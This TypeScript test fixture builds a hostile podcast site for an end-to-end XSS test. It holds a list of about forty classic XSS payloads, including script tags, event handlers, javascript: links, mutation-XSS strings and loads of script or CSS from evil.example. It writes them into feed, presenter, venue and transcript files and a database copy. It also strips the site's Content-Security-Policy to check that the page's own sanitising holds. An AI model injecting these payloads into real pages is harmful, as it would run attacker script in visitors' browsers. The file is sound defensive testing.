import { cp, mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { joinChunks, readPublished, writeChunks } from '../src/builder/publish/chunk-files.ts';
import { PAGES_FOLDER, writeLatest } from '../src/builder/publish/publish.ts';
import { chunkFiles } from '../src/core/chunk-layout.ts';
import { readContentSecurityPolicy } from '../vite-csp-plugin.ts';
import { SITE_DIR } from '../scripts/demo-site.ts';

// The hostile podcast of e2e/xss.e2e.ts: script payloads in every field a visitor sees, a copy
// of its database with the raw payloads written straight into the descriptions, and a copy of
// the built site without its Content-Security-Policy.

export const PWN = 'window.__pwned=true';

/** Classic XSS vectors. Each would set window.__pwned or open a dialog if it ran. */
export const VECTORS: readonly string[] = [
  `<script>${PWN}</script>`,
  `<SCRIPT SRC="http://evil.example/x.js"></SCRIPT>`,
  `<img src=x onerror="${PWN}">`,
  `<img src="http://evil.example/track.png" onload="${PWN}">`,
  `<svg onload="${PWN}">`,
  `<svg><script>${PWN}</script></svg>`,
  `<svg><animate onbegin="${PWN}" attributeName="x" dur="1s"></animate></svg>`,
  `<iframe src="javascript:top.__pwned=true"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned=true</script>"></iframe>`,
  `<a href="javascript:${PWN}">a javascript link</a>`,
  `<a href="JaVaScRiPt:${PWN}">a mixed-case javascript link</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:${PWN}">an encoded link</a>`,
  `<a href=" javascript:${PWN}">a spaced link</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">a data link</a>`,
  `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
  `<object data="javascript:${PWN}"></object>`,
  `<embed src="javascript:${PWN}">`,
  `<style>@import url(http://evil.example/x.css); body { background: url("javascript:alert(1)") }</style>`,
  `<div style="background-image:url(javascript:${PWN})">styled</div>`,
  `<link rel="stylesheet" href="http://evil.example/x.css">`,
  `<body onload="${PWN}">`,
  `<input autofocus onfocus="${PWN}">`,
  `<details open ontoggle="${PWN}">details</details>`,
  `<video><source onerror="${PWN}"></video>`,
  `<audio src=x onerror="${PWN}"></audio>`,
  `<marquee onstart="${PWN}">marquee</marquee>`,
  `&lt;script&gt;${PWN}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${PWN}&amp;gt;`,
  `<noscript><p title="</noscript><img src=x onerror=${PWN}>"></noscript>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${PWN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${PWN}&gt;">`,
  `<form action="javascript:${PWN}"><button>submit</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${PWN}">`,
  `<base href="http://evil.example/">`,
  `<template><script>${PWN}</script></template>`,
  `<img src="x" onerror="&#119;indow.__pwned=true">`,
  `<a href="https://example.org/" onclick="${PWN}">an onclick link</a>`,
  `"><script>${PWN}</script>`,
  `'-alert(1)-'`,
  `<scr<script>ipt>${PWN}</scr</script>ipt>`,
  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
  `<x onmouseover="${PWN}">hover me</x>`,
  `<table background="javascript:${PWN}"><tr><td>cell</td></tr></table>`,
];

const HOST_IDS = [6, 7, 12, 22];

const xml = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
export const vector = (index: number): string => VECTORS[index % VECTORS.length] ?? '';

/** A podcast folder with a vector in every field a visitor sees. */
export async function writeHostilePodcast(folder: string): Promise<void> {
  await rm(folder, { recursive: true, force: true });
  await mkdir(join(folder, 'transcripts'), { recursive: true });
  const items = VECTORS.map((description, index) => {
    const episode = index + 1;
    return `<item>
  <title>${xml(vector(index + 7))}</title>
  <description>${xml(description)}</description>
  <pubDate>${new Date(Date.UTC(2024, 0, episode)).toUTCString()}</pubDate>
  <itunes:duration>${60 + episode}</itunes:duration>
  <podcast:episode>${episode}</podcast:episode>
</item>`;
  });
  await writeFile(
    join(folder, 'feed.xml'),
    `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd" xmlns:podcast="https://podcastindex.org/namespace/1.0">
<channel><title>${xml(`<img src=x onerror="${PWN}">Hostile`)}</title>
${items.join('\n')}
</channel></rss>
`,
  );
  const presenterIds = [...HOST_IDS, 30, 31, 40, 41, 42, 43];
  await writeFile(
    join(folder, 'presenters.json'),
    JSON.stringify(
      presenterIds.map((id, index) => ({
        id,
        firstName: vector(index),
        middleName: vector(index + 11),
        lastName: vector(index + 23),
        qiElf: id === 30 || id === 31,
        guest: id >= 40,
      })),
    ),
  );
  const venueIds = [1, 2, 3, 4, 5, 6];
  await writeFile(
    join(folder, 'venues.json'),
    JSON.stringify(
      venueIds.map((id, index) => ({
        id,
        name: vector(index + 3),
        city: vector(index + 17),
        state: vector(index + 29),
        country: index % 2 === 0 ? vector(index + 5) : 'United Kingdom',
      })),
    ),
  );
  await writeFile(
    join(folder, 'overrides.json'),
    JSON.stringify(
      VECTORS.map((_, index) => ({
        episode: String(index + 1),
        presenter1: presenterIds[index % presenterIds.length],
        presenter2: presenterIds[(index + 3) % presenterIds.length],
        presenter3: presenterIds[(index + 6) % presenterIds.length],
        venue: venueIds[index % venueIds.length],
        live: index % 5 === 0,
        compilation: index % 7 === 0,
      })),
    ),
  );
  await writeFile(
    join(folder, 'trawl.config.json'),
    JSON.stringify({
      site: { hostIds: HOST_IDS, pageSize: 100 },
      episodeTypes: [
        { id: 'office', label: 'qi offices', rule: { venue: [1, 4] } },
        { id: 'wfh', label: 'wfh', rule: { venue: [2] } },
      ],
    }),
  );
  for (const [index] of VECTORS.entries()) {
    const text = `hello there. ${vector(index + 13)} said nobody. ${vector(index + 2)}`;
    let time = 0;
    const words = text.split(/\s+/).map((word) => {
      time += 0.4;
      return { word: ` ${word}`, start: time - 0.4, end: time - 0.1, probability: 0.9 };
    });
    await writeFile(
      join(folder, 'transcripts', `${index + 1}.json`),
      JSON.stringify({ segments: [{ start: 0, end: time, text, words }] }),
    );
  }
}

/** A copy of a built version whose descriptions are the raw vectors, re-chunked. */
export async function writeRawDescriptions(from: string, to: string): Promise<void> {
  await rm(to, { recursive: true, force: true });
  await cp(from, to, { recursive: true });
  const { version: latest, versionDir, config } = await readPublished(to);
  const whole = join(to, 'whole.sqlite3');
  await joinChunks(versionDir, whole);
  const db = new Database(whole);
  const update = db.prepare('UPDATE episode_descriptions SET description = ? WHERE id = ?');
  const ids = db.prepare('SELECT id FROM episode_descriptions ORDER BY id').pluck().all();
  ids.forEach((id, index) => update.run(vector(index), Number(id)));
  db.close();
  for (const chunk of chunkFiles(config)) await rm(join(versionDir, chunk.name));
  const layout = await writeChunks(whole, versionDir, config.serverChunkSize);
  await rm(whole);
  // Re-chunked in files named by their index: the copy's own, so no chunk list.
  const { chunks: _hashed, ...numbered } = config;
  const rechunked = { ...numbered, ...layout };
  await writeFile(join(versionDir, 'config.json'), JSON.stringify(rechunked));
  // latest.json carries a copy of config.json: keep the two the same.
  await writeLatest(to, latest, rechunked);
  // Pages are rendered from the database as built: without them the page reads the raw
  // descriptions from the altered database and must sanitise them itself.
  await rm(join(versionDir, PAGES_FOLDER), { recursive: true, force: true });
}

/**
 * A copy of the built site with the Content-Security-Policy meta tag taken out of every HTML
 * file, to show that the page's own sanitising holds without the policy.
 */
export async function writeSiteWithoutCsp(to: string): Promise<void> {
  await cp(SITE_DIR, to, { recursive: true });
  const html = join(to, 'index.html');
  const stripped = (await readFile(html, 'utf8')).replace(
    /<meta http-equiv="Content-Security-Policy"[^>]*>/gi,
    '',
  );
  if (readContentSecurityPolicy(stripped) !== undefined) throw new Error('the CSP is still there');
  await writeFile(html, stripped);
}
